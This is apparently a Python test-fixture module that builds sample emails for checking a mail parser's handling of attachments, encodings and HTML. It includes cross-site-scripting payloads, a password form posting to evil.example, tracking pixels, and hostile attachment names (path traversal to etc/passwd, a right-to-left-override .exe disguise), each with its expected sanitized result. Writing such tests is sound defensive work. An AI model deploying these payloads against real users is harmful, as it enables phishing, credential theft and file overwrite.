"""Everyday mail as real clients send it: Outlook, Gmail, international names,
TNEF, inline and unaccepted attachments, HTML only, long bodies."""

import base64
from email.mime.application import MIMEApplication
from email.mime.image import MIMEImage
from email.mime.text import MIMEText
from email.utils import formataddr

from tests.mailcorpus.building import INBOX, _attachment, _b64_lines, _headers, _mp
from tests.mailcorpus.payloads import (
    BIG_PNG,
    CSV,
    GMAIL_PDF,
    INVOICE_PDF,
    LOGO_PNG,
    PHOTO_JPEG,
    SMALL_PNG,
    TNEF_FILES,
    ZIP_BYTES,
    jpeg,
    pdf,
    tnef_blob,
)

OUTLOOK_CID = "image001.png@01DA1B2C.3D4E5F60"

OUTLOOK_HTML = (
    '<html><head><style>p{color:red}</style><script>alert("head")</script></head>'
    '<body onload="steal()"><p class="MsoNormal">Dear team,</p>'
    '<p onclick="evil()">Please find the invoice attached.</p>'
    f'<img src="cid:{OUTLOOK_CID}" width="120" alt="logo">'
    '<img src="https://tracker.example.net/pixel.gif?u=42" alt="">'
    '<script>document.location="https://evil.example"</script>'
    '<a href="https://vendor.test/portal" onmouseover="x()">Portal</a>'
    '<a href="javascript:alert(1)">click</a>'
    '<img src=x onerror="alert(2)"><svg onload="alert(3)"></svg>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<form action="https://evil.example/post"><input name="password"></form>'
    '<div style="background:url(https://tracker.example.net/bg.png)">styled</div>'
    '<img srcset="https://tracker.example.net/a.png 1x">'
    '<table background="https://tracker.example.net/t.png"><tr><td>cell</td></tr></table>'
    '<link rel="stylesheet" href="https://tracker.example.net/s.css">'
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==">data</a>'
    "</body></html>"
)


def outlook_related() -> bytes:
    """Outlook: mixed > related > (alternative > plain, html) + cid image; + PDF."""
    alternative = _mp("alternative", "outlook_alt")
    alternative.attach(
        MIMEText(
            "Dear team,\r\nPlease find the invoice attached.\r\n", "plain", "utf-8"
        )
    )
    alternative.attach(MIMEText(OUTLOOK_HTML, "html", "utf-8"))
    related = _mp("related", "outlook_rel", type="multipart/alternative")
    related.attach(alternative)
    logo = MIMEImage(LOGO_PNG, "png", name="image001.png")
    logo.add_header("Content-ID", f"<{OUTLOOK_CID}>")
    logo.add_header("Content-Disposition", "inline", filename="image001.png")
    related.attach(logo)
    msg = _mp("mixed", "outlook_mixed")
    msg.attach(related)
    msg.attach(_attachment(INVOICE_PDF, "application", "pdf", "Invoice 2024-001.pdf"))
    _headers(
        msg,
        subject="Invoice 2024-001",
        sender=formataddr(("Novák, Jan", "jan.novak@vendor.test"), "utf-8"),
        message_id="<outlook-1@vendor.test>",
        cc="Accounts <accounts@vendor.test>",
    )
    msg["X-Mailer"] = "Microsoft Outlook 16.0"
    return msg.as_bytes()


def gmail_mixed() -> bytes:
    """Gmail: mixed > (alternative > plain, html) + PDF + JPEG + CSV attachments."""
    alternative = _mp("alternative", "gmail_alt")
    alternative.attach(MIMEText("Statement attached.\n", "plain", "utf-8"))
    alternative.attach(
        MIMEText('<div dir="ltr">Statement <b>attached</b>.</div>\n', "html", "utf-8")
    )
    msg = _mp("mixed", "gmail_mixed")
    msg.attach(alternative)
    msg.attach(_attachment(GMAIL_PDF, "application", "pdf", "statement.pdf"))
    msg.attach(_attachment(PHOTO_JPEG, "image", "jpeg", "photo.jpg"))
    csv = MIMEText(CSV.decode(), "csv", "utf-8")
    csv.add_header("Content-Disposition", "attachment", filename="items.csv")
    msg.attach(csv)
    _headers(
        msg,
        subject="Fwd: statement",
        sender="Bob <bob@gmail.test>",
        message_id="<CAF=gmail-1@mail.gmail.test>",
    )
    return msg.as_bytes()


# ---------------------------------------------------------------------------
# File names in many encodings

# (raw Content-Disposition / Content-Type parameters, expected decoded name, payload)
NAMED_FILES: list[tuple[str, str, bytes]] = [
    # RFC 2231, UTF-8
    (
        "attachment; filename*=utf-8''"
        "%C5%BElu%C5%A5ou%C4%8Dk%C3%BD%20k%C5%AF%C5%88.pdf",
        "žluťoučký kůň.pdf",
        pdf("czech"),
    ),
    # RFC 2231, ISO-8859-1, with a language tag
    (
        "attachment; filename*=iso-8859-1'fr'r%E9sum%E9%20final.pdf",
        "résumé final.pdf",
        pdf("french"),
    ),
    # RFC 2231 continuations
    (
        "attachment;\r\n filename*0*=utf-8''Rechnung%20f%C3%BCr%20;\r\n"
        " filename*1*=M%C3%A4rz%202024.pdf",
        "Rechnung für März 2024.pdf",
        pdf("german"),
    ),
    # RFC 2047 in a quoted parameter (what many mailers really send), Q encoding
    (
        'attachment; filename="=?iso-8859-1?Q?Fran=E7ais_=E9t=E9.pdf?="',
        "Français été.pdf",
        pdf("latin1-q"),
    ),
    # RFC 2047, KOI8-R, B encoding
    (
        'attachment; filename="=?koi8-r?B?'
        + base64.b64encode("Счёт 7.pdf".encode("koi8-r")).decode()
        + '?="',
        "Счёт 7.pdf",
        pdf("russian"),
    ),
    # RFC 2047, Shift_JIS, B encoding
    (
        'attachment; filename="=?shift_jis?B?'
        + base64.b64encode("請求書.pdf".encode("shift_jis")).decode()
        + '?="',
        "請求書.pdf",
        pdf("japanese"),
    ),
    # Path traversal, RFC 2231 (%2F is "/")
    ("attachment; filename*=utf-8''..%2F..%2Fetc%2Fpasswd", "passwd", pdf("traversal")),
    # Windows path
    (
        'attachment; filename="C:\\\\Users\\\\bob\\\\evil.pdf"',
        "evil.pdf",
        pdf("windows"),
    ),
    # Control characters (BEL, ESC, NUL) through RFC 2231
    (
        "attachment; filename*=utf-8''in%07vo%1Bice%00.pdf",
        "invoice.pdf",
        pdf("control"),
    ),
    # A right-to-left override (shows as "invoiceexe.pdf") and zero-width joiners
    (
        "attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
        "invoicefdp.exe",
        pdf("bidi"),
    ),
    ("attachment; filename*=utf-8''scan%E2%80%8B%E2%80%8D.pdf", "scan.pdf", pdf("zw")),
    # A Windows device name, with an extension and trailing dots
    ('attachment; filename="con.pdf.."', "_con.pdf", pdf("device")),
]


def international_names() -> bytes:
    """One PDF per NAMED_FILES entry, each with its hand-written disposition."""
    parts = [
        b"--NAMES\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nFiles attached.\r\n"
    ]
    for disposition, _, data in NAMED_FILES:
        parts.append(
            b"--NAMES\r\nContent-Type: application/pdf\r\n"
            b"Content-Transfer-Encoding: base64\r\n"
            b"Content-Disposition: "
            + disposition.encode()
            + b"\r\n\r\n"
            + _b64_lines(data)
        )
    return (
        b"From: =?utf-8?Q?Ji=C5=99=C3=AD?= <jiri@vendor.test>\r\n"
        b"To: " + INBOX.encode() + b"\r\n"
        b"Subject: =?iso-8859-1?Q?Pi=E8ces_jointes?=\r\n"
        b"Message-ID: <names-1@vendor.test>\r\n"
        b"Date: Tue, 14 Nov 2023 22:13:20 +0000\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="NAMES"\r\n\r\n'
        + b"".join(parts)
        + b"--NAMES--\r\n"
    )


BROKEN_B64_GOOD_PDF = pdf("intact neighbour")


def tnef_message(
    blob: bytes | None = None, *, message_id: str = "<tnef-1@vendor.test>"
) -> bytes:
    """Outlook's Rich Text mail: a text part and winmail.dat (application/ms-tnef)."""
    msg = _mp("mixed", "tnef")
    msg.attach(MIMEText("See the attached files.", "plain", "utf-8"))
    winmail = MIMEApplication(
        blob if blob is not None else tnef_blob(TNEF_FILES),
        "ms-tnef",
        name="winmail.dat",
    )
    winmail.add_header("Content-Disposition", "attachment", filename="winmail.dat")
    msg.attach(winmail)
    _headers(
        msg,
        subject="Rich text mail",
        sender="Exchange User <ex@corp.vendor.test>",
        message_id=message_id,
    )
    return msg.as_bytes()


def small_images() -> bytes:
    """Two images under any sensible minImageBytes, one above it, and a PDF."""
    msg = _mp("mixed", "images")
    msg.attach(MIMEText("Images attached.", "plain", "utf-8"))
    msg.attach(_attachment(SMALL_PNG, "image", "png", "spacer.png"))
    msg.attach(_attachment(jpeg(300, seed=5), "image", "jpeg", "tiny.jpg"))
    msg.attach(_attachment(BIG_PNG, "image", "png", "chart.png"))
    msg.attach(_attachment(INVOICE_PDF, "application", "pdf", "invoice.pdf"))
    _headers(
        msg,
        subject="Pictures",
        sender="eve@vendor.test",
        message_id="<images-1@vendor.test>",
    )
    return msg.as_bytes()


def unaccepted_type() -> bytes:
    """A ZIP declared as PDF (the sniffer must see through it) and a real PDF."""
    msg = _mp("mixed", "zip")
    msg.attach(MIMEText("Archive attached.", "plain", "utf-8"))
    msg.attach(_attachment(ZIP_BYTES, "application", "pdf", "not-really.pdf"))
    msg.attach(_attachment(INVOICE_PDF, "application", "pdf", "invoice.pdf"))
    _headers(
        msg,
        subject="Archive",
        sender="fred@vendor.test",
        message_id="<zip-1@vendor.test>",
    )
    return msg.as_bytes()


HTML_ONLY = (
    "<html><head><title>T</title><style>.x{}</style></head><body>"
    "<h1>Order&nbsp;confirmed</h1><p>Line one<br>Line two</p>"
    "<div>Total: <b>42 &euro;</b></div><script>var secret = 1;</script></body></html>"
)


def html_only() -> bytes:
    msg = MIMEText(HTML_ONLY, "html", "utf-8")
    _headers(
        msg,
        subject="HTML only",
        sender="shop@vendor.test",
        message_id="<html-1@vendor.test>",
    )
    return msg.as_bytes()


LONG_TEXT = "Příliš žluťoučký kůň úpěl ďábelské ódy — €uro ✓ " * 200  # multi-byte


def long_bodies() -> bytes:
    alternative = _mp("alternative", "long")
    alternative.attach(MIMEText(LONG_TEXT, "plain", "utf-8"))
    alternative.attach(MIMEText(f"<p>{LONG_TEXT}</p>", "html", "utf-8"))
    _headers(
        alternative,
        subject="Long",
        sender="long@vendor.test",
        message_id="<long-1@vendor.test>",
    )
    return alternative.as_bytes()
